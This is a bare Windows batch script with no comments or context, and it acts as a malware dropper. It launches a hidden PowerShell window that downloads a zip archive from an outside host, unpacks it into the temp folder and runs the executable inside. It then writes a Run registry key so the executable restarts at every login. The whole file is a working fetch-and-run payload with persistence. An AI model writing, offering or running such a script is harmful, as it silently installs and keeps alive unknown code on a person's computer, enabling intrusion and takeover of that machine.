@echo off
powershell -w hidden -c "$w=New-Object Net.WebClient;$w.DownloadFile('https://src.invalid/a.zip',\"$env:TEMP\a.zip\");Expand-Archive $env:TEMP\a.zip $env:TEMP\a;& $env:TEMP\a\go.exe"
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d %TEMP%\a\go.exe /f
